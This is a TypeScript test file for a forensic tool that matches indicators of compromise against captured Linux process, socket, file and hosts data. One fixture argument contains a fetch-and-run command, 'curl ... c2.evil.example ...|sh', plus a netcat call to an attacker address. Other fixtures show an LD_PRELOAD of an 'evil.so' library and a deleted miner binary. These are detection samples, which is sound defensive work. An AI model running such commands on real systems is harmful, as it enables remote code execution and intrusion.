import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type TestRows, testCase } from '../../../../test/support/case.ts';
import { isUnread } from './indicator.ts';
import { look, unseen } from './look.ts';
import { readList } from './read-list.ts';
import { Wanted } from './wanted.ts';

function wantedOf(text: string): Wanted {
  const wanted = new Wanted();
  for (const entry of readList(Buffer.from(text), 'list', { form: null, onlyToIds: false, withheld: () => {}, columns: () => {} })) {
    if (isUnread(entry)) throw new Error(entry.reason);
    wanted.add(entry);
  }
  return wanted;
}

/** `INDICATOR: SEEN FIELD VALUE PID` of every hit. */
function hits(rows: TestRows, text: string): string[] {
  const said = (value: unknown): string => (value instanceof Uint8Array ? Buffer.from(value).toString('latin1') : String(value));
  return [...look(testCase(rows), 1, wantedOf(text))].map(
    (h) => `${h.candidate.indicator.text.replace(/^(?:process|file|user|domain):/, '')}: ${h.seen}, ${h.field}: ${said(h.value)}, ${h.pid}`,
  );
}

const socket = (local: string, remote: string, more: object = {}): Record<string, never> => {
  const [, localAddress, localPort] = /^(.*):(\d+)$/.exec(local) ?? [];
  const [, remoteAddress, remotePort] = /^(.*):(\d+)$/.exec(remote) ?? [];
  const ends = {
    local_address: localAddress,
    local_port: Number(localPort),
    remote_address: remoteAddress,
    remote_port: Number(remotePort),
  };
  return { pass: 'A', proto: 'tcp', state: 'ESTABLISHED', inode: 100, net_ns: 1, source_id: 1, line: 2, ...ends, ...more } as never;
};

test('addresses: exact, by block, mapped, both passes and the own list of the kernel once, the holder named', () => {
  const mapped = socket('::ffff:10.0.0.1:22', '::ffff:1.2.3.4:999', { proto: 'tcp6', inode: 7 });
  const rows: TestRows = {
    sockets_inet: [
      mapped,
      { ...mapped, pass: 'B' } as never,
      socket('10.0.0.1:1', '1.2.3.5:80'),
      socket('0.0.0.0:80', '0.0.0.0:0', { state: 'LISTEN', inode: 8 }),
    ],
    diag_inet: [
      { proto: 'tcp6', local_address: '::ffff:10.0.0.1', local_port: 22, remote_address: '::ffff:1.2.3.4', remote_port: 999, inode: 7 },
      { proto: 'tcp', local_address: '9.9.9.9', local_port: 1, remote_address: '1.2.3.4', remote_port: 2, inode: 11 },
    ],
    fds: [
      { pid: 30, tid: 0, fd: 3, socket_inode: 7 },
      { pid: 20, tid: 0, fd: 3, socket_inode: 7 },
    ],
  };
  expect(hits(rows, '1.2.3.4\n1.2.3.4/31\n')).toEqual([
    '1.2.3.4: socket, remote address: ::ffff:1.2.3.4, 20',
    '1.2.3.4/31: socket, remote address: ::ffff:1.2.3.4, 20',
    '1.2.3.4/31: socket, remote address: 1.2.3.5, null',
    '1.2.3.4: socket, remote address: 1.2.3.4, null',
    '1.2.3.4/31: socket, remote address: 1.2.3.4, null',
  ]);
  expect(hits(rows, '0.0.0.0')).toEqual(['0.0.0.0: socket, local address: 0.0.0.0, null']);
});

test('ports are those of tcp and udp, by protocol when the list says so', () => {
  const rows: TestRows = {
    sockets_inet: [
      socket('10.0.0.1:4444', '1.2.3.4:80', { inode: 1 }),
      socket('10.0.0.1:53', '1.2.3.4:4444', { proto: 'udp', inode: 2 }),
      socket('0.0.0.0:44', '0.0.0.0:0', { proto: 'raw', inode: 3 }),
    ],
  };
  expect(hits(rows, '4444')).toEqual(['4444: socket, local port: 4444, null', '4444: socket, remote port: 4444, null']);
  expect(hits(rows, 'udp/4444')).toEqual(['udp/4444: socket, connection: 4444, null']);
  expect(hits(rows, 'port:44')).toEqual([]);
});

test('an address with a port: both at one end', () => {
  const rows: TestRows = {
    sockets_inet: [
      socket('10.0.0.1:5000', '1.2.3.4:443'),
      socket('1.2.3.4:80', '10.0.0.1:443', { inode: 2 }),
      socket('1.2.3.4:443', '0.0.0.0:0', { inode: 3, state: 'LISTEN' }),
    ],
  };
  expect(hits(rows, '1.2.3.4:443')).toEqual([
    '1.2.3.4:443: socket, connection: 1.2.3.4, null',
    '1.2.3.4:443: socket, connection: 1.2.3.4, null',
  ]);
  expect(hits(rows, '1.2.3.4:80')).toEqual(['1.2.3.4:80: socket, connection: 1.2.3.4, null']);
  const pattern = (text: string): string => JSON.stringify({ type: 'indicator', id: 'i', pattern: text });
  expect(hits(rows, pattern("[network-traffic:src_ref.value = '10.0.0.1' AND network-traffic:dst_port = 443]"))).toHaveLength(1);
  expect(hits(rows, pattern("[network-traffic:src_ref.value = '1.2.3.4' AND network-traffic:dst_ref.value = '1.2.3.4']"))).toEqual([]);
});

test('host names: the hosts file and the sockets of its addresses, not those at blocked addresses', () => {
  const rows: TestRows = {
    hosts: [
      { address: '1.2.3.4', name: 'c2.evil.example', source_id: 3, line: 1 },
      { address: '0.0.0.0', name: 'ads.evil.example', source_id: 3, line: 2 },
    ],
    sockets_inet: [socket('10.0.0.1:5000', '1.2.3.4:443'), socket('0.0.0.0:80', '0.0.0.0:0', { state: 'LISTEN' })],
  };
  expect(hits(rows, 'domain:evil.example')).toEqual([
    'evil.example: socket, remote address, named c2.evil.example by /etc/hosts: 1.2.3.4, null',
    'evil.example: hosts file, name: c2.evil.example, null',
    'evil.example: hosts file, name: ads.evil.example, null',
  ]);
  expect(hits(rows, 'hostname:evil.example')).toEqual([]);
  expect(hits(rows, 'https://c2.evil.example:443/x')).toEqual([
    'https://c2.evil.example:443/x: socket, connection, named c2.evil.example by /etc/hosts: 1.2.3.4, null',
  ]);
  expect(hits(rows, 'https://c2.evil.example:444/x')).toEqual([]);
});

const process = (pid: number, more: object): Record<string, never> => ({ pid, source_id: 5, line: pid, ...more }) as never;

test('what is gone is found by its path and by the link as it was captured, once', () => {
  const rows: TestRows = {
    processes: [process(7, { name: 'r2d', path: '/usr/sbin/r2d (deleted)', cwd: '/srv/x (deleted)' })],
    fds: [{ pid: 7, tid: 0, fd: 4, kind: 'memfd', target: '/memfd:x (deleted)' }],
    maps: [{ pid: 7, line: 1, path: '/tmp/l.so (deleted)', perms: 'r-xp' }],
  };
  const executable = 'process, executable: /usr/sbin/r2d (deleted), 7';
  for (const text of ['path:/usr/sbin/r2d', 'path:/usr/sbin/r2d (deleted)', '/usr/sbin/r2d (del*'])
    expect(hits(rows, text)).toEqual([`${text}: ${executable}`]);
  expect(hits(rows, 'file:r2d (deleted)')).toEqual([`r2d (deleted): ${executable}`]);
  expect(hits(rows, 'path:/srv/x (deleted)')).toEqual(['path:/srv/x (deleted): process, cwd: /srv/x (deleted), 7']);
  expect(hits(rows, 'path:/memfd:x (deleted)')).toEqual(['path:/memfd:x (deleted): descriptor, target: /memfd:x (deleted), 7']);
  expect(hits(rows, 'path:/tmp/l*')).toEqual(['path:/tmp/l*: mapped file, path: /tmp/l.so (deleted), 7']);
  const pattern = (text: string): string => JSON.stringify({ type: 'indicator', id: 'i', pattern: text });
  expect(hits(rows, pattern("[process:name = 'r2d' AND process:image_ref.name = 'r2d (deleted)']"))).toHaveLength(1);
});

test('names: executable, name, cut name, first argument, thread, module; of a process once', () => {
  const rows: TestRows = {
    processes: [
      process(1, { name: 'xmrig', path: '/opt/xmrig (deleted)', path_deleted: 1 }),
      process(2, { name: 'a-name-that-is-', path: '/x/y' }),
      process(3, { name: 'sh', path: '/bin/sh' }),
    ],
    process_args: [
      { pid: 3, arg_index: 0, arg: '/opt/xmrig' },
      { pid: 3, arg_index: 1, arg: 'xmrig2' },
    ],
    threads: [{ pid: 3, tid: 9, name: 'xmrig' }],
    modules: [{ name: 'xmrig' }],
  };
  expect(hits(rows, 'process:xmrig')).toEqual([
    'xmrig: process, executable: /opt/xmrig (deleted), 1',
    'xmrig: command line, argument 0: xmrig, 3',
    'xmrig: thread, name: xmrig, 3',
    'xmrig: module, name: xmrig, null',
  ]);
  expect(hits(rows, 'a-name-that-is-longer')).toEqual([
    'a-name-that-is-longer: process, name, of which the kernel keeps 15 bytes: a-name-that-is-, 2',
  ]);
  expect(hits(rows, 'process:xm*2')).toEqual([]);
});

test('paths and file names: descriptors, maps, sockets, mounts, directories, with and without " (deleted)", bytes that are no text', () => {
  const rows: TestRows = {
    processes: [process(1, { name: 'x', path: '/bin/x', cwd: '/tmp/.hidden (deleted)' })],
    fds: [
      { pid: 1, tid: 0, fd: 3, kind: 'file', target: '/tmp/.hidden/log (deleted)', deleted: 1 },
      { pid: 1, tid: 0, fd: 4, kind: 'file', target: Buffer.from('/tmp/.hidden/\xff', 'latin1') },
      { pid: 1, tid: 0, fd: 5, kind: 'socket', target: 'socket:[4]' },
    ],
    maps: [
      { pid: 1, start: '1', path: '/tmp/.hidden/a.so', perms: 'r-xp', line: 1, source_id: 1 },
      { pid: 1, start: '2', path: '/tmp/.hidden/a.so', perms: 'r--p', line: 2, source_id: 1 },
      { pid: 1, start: '3', path: '/bin/x', line: 3 },
    ],
    sockets_unix: [
      { path: '/tmp/.hidden/s', type: 'STREAM', inode: 5, pass: 'A' },
      { path: '/tmp/.hidden/s', type: 'STREAM', inode: 5, pass: 'B' },
    ],
    mounts: [{ mount_point: '/tmp/.hidden/m', fstype: 'tmpfs', mnt_ns: 1 }],
    process_args: [{ pid: 1, arg_index: 1, arg: '--out=/tmp/.hidden/out' }],
  };
  expect(hits(rows, '/tmp/.hidden/*').map((hit) => hit.replace('/tmp/.hidden/*: ', ''))).toEqual([
    'command line, argument 1: /tmp/.hidden/out, 1',
    'descriptor, target: /tmp/.hidden/log (deleted), 1',
    'descriptor, target: /tmp/.hidden/\xff, 1',
    'mapped file, path: /tmp/.hidden/a.so, 1',
    'unix socket, path: /tmp/.hidden/s, null',
    'mount, mount point: /tmp/.hidden/m, null',
  ]);
  expect(hits(rows, '/tmp/.hidden')).toEqual(['/tmp/.hidden: process, cwd: /tmp/.hidden (deleted), 1']);
  expect(hits(rows, 'file:a.so')).toEqual(['a.so: mapped file, path: /tmp/.hidden/a.so, 1']);
  expect(hits(rows, 'file:x')).toEqual(['x: process, executable: /bin/x, 1']);
});

test('command lines and environments: addresses, hosts and paths within words', () => {
  const rows: TestRows = {
    process_args: [
      { pid: 1, arg_index: 2, arg: 'curl -s http://c2.evil.example:8080/a|sh; nc 1.2.3.4 9; x [2001:db8::7]:5', source_id: 4, line: 2 },
    ],
    process_environ: [{ pid: 1, env_index: 0, name: 'LD_PRELOAD', value: '/lib/a.so:/tmp/evil.so' }],
  };
  expect(hits(rows, 'evil.example\n1.2.3.0/24\n2001:db8::7\n/tmp/evil.so\n2001:db8::8')).toEqual([
    'evil.example: command line, argument 2: c2.evil.example:8080, 1',
    '1.2.3.0/24: command line, argument 2: 1.2.3.4, 1',
    '2001:db8::7: command line, argument 2: 2001:db8::7, 1',
    '/tmp/evil.so: environment, LD_PRELOAD: /tmp/evil.so, 1',
  ]);
});

test('a host or address with a port is found in a word with that port', () => {
  const rows: TestRows = { process_args: [{ pid: 1, arg_index: 1, arg: 'http://c2.evil.example:8080/a 1.2.3.4:443' }] };
  expect(hits(rows, 'hxxp://c2[.]evil[.]example:8080/other\n1.2.3.4:443\n1.2.3.4:44\nhttp://c2.evil.example:80')).toEqual([
    'http://c2.evil.example:8080/other: command line, argument 1: c2.evil.example:8080, 1',
    '1.2.3.4:443: command line, argument 1: 1.2.3.4:443, 1',
  ]);
});

test('hashes: every process of the executable, copies, with a name where a pattern asks for both', () => {
  const sha = 'a'.repeat(64);
  const rows: TestRows = {
    executables: [{ dev: '8:1', inode: 5, sha256: sha, source_id: 2, line: 1 }],
    processes: [
      process(1, { path: '/bin/x', exe_dev: '8:1', exe_ino: 5 }),
      process(2, { path: '/bin/y', exe_dev: '8:1', exe_ino: 5 }),
      process(3, { path: '/bin/z', exe_dev: '8:1', exe_ino: 6 }),
    ],
    sources: [{ source_id: 9, path: `blob/${'b'.repeat(64)}`, sha256: 'b'.repeat(64) }],
  };
  expect(hits(rows, sha.toUpperCase())).toEqual([1, 2].map((pid) => `${sha.toUpperCase()}: executable, SHA-256: ${sha}, ${pid}`));
  expect(hits(rows, 'b'.repeat(64))).toEqual([`${'b'.repeat(64)}: copy, SHA-256: ${'b'.repeat(64)}, null`]);
  const both = (name: string): string =>
    JSON.stringify({ type: 'indicator', id: 'i', pattern: `[file:hashes.'SHA-256' = '${sha}' AND file:name = '${name}']` });
  expect(hits(rows, both('y'))).toHaveLength(1);
  expect(hits(rows, both('q'))).toEqual([]);
});

test('users: by name of the captured passwd, by number', () => {
  const rows: TestRows = {
    users: [{ name: 'backup', uid: 34 }],
    processes: [process(1, { name: 'a', uid: 34, euid: 34 }), process(2, { name: 'b', uid: 0, euid: 34 })],
  };
  expect(hits(rows, 'user:backup')).toEqual([
    'backup: user, name: backup, null',
    'backup: process, uid: 34, 1',
    'backup: process, euid: 34, 2',
  ]);
  expect(hits(rows, 'user:0')).toEqual(['0: process, uid: 0, 2']);
});

test('the same indicator twice is one, with the number of the others', () => {
  const found = [
    ...look(testCase({ sockets_inet: [socket('10.0.0.1:1', '1.2.3.4:2')] }), 1, wantedOf('1.2.3.4\n1[.]2.3.4\n::ffff:1.2.3.4')),
  ];
  expect(found.map((hit) => [hit.candidate.indicator.place, hit.candidate.also])).toEqual([[1, 2]]);
});

test('what was not captured is said for what is asked alone', () => {
  const db = testCase({ sources: [{ source_id: 1, path: 'proc/net/tcp', parser: 'net-tcp' }] });
  expect(unseen(db, 1, wantedOf('port:5'))).toEqual([]);
  expect(unseen(db, 1, wantedOf('f'.repeat(64)))).toEqual(['the executables were not hashed: coldstat-capture --with exe-hash']);
  expect(unseen(db, 1, wantedOf('hostname:a.example'))).toContain('/etc/hosts was not captured');
});

test('what the index finds is what holding each row against each indicator finds', () => {
  const octet = fc.nat(3);
  const address = fc.tuple(octet, octet).map(([a, b]) => `10.0.${a}.${b}`);
  const indicator = fc.oneof(
    address.map((a) => ({ text: a, base: a, bits: 32 })),
    fc.tuple(address, fc.integer({ min: 20, max: 32 })).map(([a, bits]) => ({ text: `${a}/${bits}`, base: a, bits })),
  );
  const number = (text: string): number => text.split('.').reduce((n, part) => n * 256 + Number(part), 0);
  fc.assert(
    fc.property(
      fc.uniqueArray(indicator, { selector: (i) => `${number(i.base) >>> (32 - i.bits) || 0}/${i.bits}` }),
      fc.uniqueArray(address),
      (list, remotes) => {
        const rows = { sockets_inet: remotes.map((remote, i) => socket('192.0.2.1:1', `${remote}:2`, { inode: i + 1 })) };
        const expected = remotes.flatMap((remote) =>
          list
            .filter((i) => Math.floor(number(i.base) / 2 ** (32 - i.bits)) === Math.floor(number(remote) / 2 ** (32 - i.bits)))
            .map((i) => `${i.text} ${remote}`),
        );
        const found = [...look(testCase(rows), 1, wantedOf(list.map((i) => i.text).join('\n')))].map(
          (h) => `${h.candidate.indicator.text} ${h.value}`,
        );
        expect(found.sort()).toEqual(expected.sort());
      },
    ),
    { numRuns: 40 },
  );
});
